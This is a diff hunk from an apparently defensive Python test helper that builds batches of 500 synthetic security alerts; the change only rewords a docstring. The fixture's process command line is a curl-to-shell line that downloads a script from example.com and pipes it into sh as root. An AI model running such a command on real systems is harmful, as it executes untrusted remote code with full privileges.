@@ -65,7 +65,7 @@ def _receive(pipe: Connection, certificates: Certificates | None) -> None:
 
 
 def _batches(count: int) -> list[list[Record]]:
-    """As the core hands them over: 500 at a time."""
+    """Return records in batches of 500, as the core delivers them."""
     values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
     made = records(*(alert("A shell was started", **values) for _ in range(count)))
     return [made[start : start + 500] for start in range(0, count, 500)]
